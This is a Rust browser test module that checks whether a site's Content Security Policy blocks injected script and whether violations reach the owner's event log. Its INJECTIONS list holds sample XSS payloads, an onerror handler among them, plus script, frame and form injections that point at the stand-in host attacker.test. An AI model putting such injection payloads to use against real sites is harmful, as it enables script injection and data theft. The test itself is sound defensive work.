//! What a page's own policy stops is stopped in a real browser, and told to whoever runs the site.

use crate::{
    verdict::{Failure, Shown, promise},
    world::{Stage, until},
};
use counterfoil_browser::tab::Tab;

/// Script that found its way into a page does not run; the report arrives, and the session's owner can read of it.
pub(super) async fn arrive(stage: Stage) -> Shown {
    let person = stage.stranger().await?;
    let tab = person.tab().await?;
    stage.sign_in(&tab).await?;
    for (place, directive, script) in INJECTIONS {
        tab.go(&stage.site.at("/counter")).await?;
        let stopped = tab.run(&watched(directive, script)).await?;
        let ran = tab.run("window.injectedRan === true").await?;
        promise("injected script does not run", ran.as_bool() == Some(false), || format!("{place} did"))?;
        promise("the page's policy stops it", stopped.as_bool() == Some(true), || {
            format!("{place} was not stopped by {directive}")
        })?;
    }
    let all = || async {
        let told = reported(&stage, &tab).await?;
        Ok((told.len() == DIRECTIVES.len()).then_some(told))
    };
    let Ok(told) = until("the reports to arrive", all).await else {
        let told = reported(&stage, &tab).await?;
        return Err(Failure::Broken {
            promise: "violations are reported",
            seen: format!("events came of {told:?} only"),
        });
    };
    person.leave().await?;
    Ok(format!("{} ways in ran nothing; told: {}", INJECTIONS.len(), told.join(", ")))
}

/// Runs a script and waits until the page's policy stops it, for a while: a page left before that reports nothing, as the
/// browser sends a form only after the script that submits it.
fn watched(directive: &str, script: &str) -> String {
    format!(
        "new Promise(done => {{
            document.addEventListener('securitypolicyviolation', seen => seen.effectiveDirective === '{directive}' && done(true));
            setTimeout(() => done(false), 10000);
            {script};
        }})"
    )
}

/// The directives named in the owner's events, of those that were broken.
async fn reported(stage: &Stage, tab: &Tab) -> Result<Vec<&'static str>, Failure> {
    tab.go(&stage.site.at("/events")).await?;
    let text = tab.text().await?;
    Ok(DIRECTIVES.into_iter().filter(|directive| text.contains(&format!("by {directive})"))).collect())
}

/// What an escaping mistake would let in, put there by hand: its name, what stops it, and how.
const INJECTIONS: [(&str, &str, &str); 5] = [
    (
        "an inline script",
        "script-src-elem",
        "{ const s = document.createElement('script'); s.textContent = 'window.injectedRan = true'; document.body.append(s); }",
    ),
    (
        "an event handler",
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injectedRan=true>')",
    ),
    (
        "a script of another site",
        "script-src-elem",
        "{ const s = document.createElement('script'); s.src = 'https://attacker.test/x.js'; document.body.append(s); }",
    ),
    (
        "a frame",
        "frame-src",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://attacker.test/\"></iframe>')",
    ),
    (
        "a form to elsewhere",
        "form-action",
        "{ const f = document.createElement('form'); f.action = 'https://attacker.test/take'; document.body.append(f); f.submit(); }",
    ),
];
const DIRECTIVES: [&str; 4] = ["script-src-elem", "script-src-attr", "frame-src", "form-action"];
